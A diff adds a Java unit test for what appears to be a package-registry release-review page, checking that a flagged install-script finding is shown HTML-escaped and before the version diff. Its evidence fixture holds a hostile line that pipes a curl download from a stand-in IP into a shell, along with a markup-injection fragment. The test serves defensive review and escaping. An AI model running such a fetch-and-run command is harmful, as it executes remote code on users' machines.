@@ -99,6 +99,63 @@ class TemplatesTest {
         assertThat(Templates.render("package.jte", pkg(null))).doesNotContain("Provenance");
     }
 
+    @Test
+    void aStageShowsTheReviewsFindingsWithEscapedEvidenceBeforeTheDiff() {
+        var finding =
+                new Views.Finding(
+                        "install-downloads-executable",
+                        "critical",
+                        "quarantine",
+                        "setup.js, run at install, downloads an executable and runs it",
+                        List.of(
+                                new Views.Evidence(
+                                        "setup.js:2 [bytes 46+5]",
+                                        "cp.exec('curl -s http://192.0.2.1/p.sh | sh')</pre><b>")));
+        var stage =
+                new Views.Stage(
+                        "0b0e2a9c-0000-4000-8000-000000000000",
+                        "1.1.0",
+                        "olga",
+                        0,
+                        1,
+                        "quarantine",
+                        List.of(finding),
+                        List.of(new Views.ReviewField("comparedWith", "1.0.0")));
+        Views.Package base = pkg(null);
+        Views.Package page =
+                new Views.Package(
+                        base.name(),
+                        base.path(),
+                        base.weeklyDownloads(),
+                        base.dependents(),
+                        base.highImpact(),
+                        base.framework(),
+                        base.approvals(),
+                        base.coolOffHours(),
+                        base.policyVersion(),
+                        null,
+                        base.maintainers(),
+                        base.successors(),
+                        base.notices(),
+                        new Views.Pending(List.of(stage), List.of()),
+                        false,
+                        "csrf-token");
+
+        String html = Templates.render("package.jte", page);
+
+        assertThat(html)
+                .contains("Release review: <strong class=\"review-action\">quarantine</strong>")
+                .contains(
+                        "<code>install-downloads-executable</code> (critical, quarantine):"
+                                + " setup.js, run at install, downloads an executable and runs it")
+                .contains("<code>setup.js:2 [bytes 46+5]</code>")
+                .contains("cp.exec(&#39;curl -s http://192.0.2.1/p.sh | sh&#39;)&lt;/pre>&lt;b>")
+                .doesNotContain("</pre><b>");
+        assertThat(html.indexOf("install-downloads-executable"))
+                .as("the findings come before the diff")
+                .isLessThan(html.indexOf("comparedWith"));
+    }
+
     private static Views.Package pkg(Views.Provenance provenance) {
         return new Views.Package(
                 "@o/p",
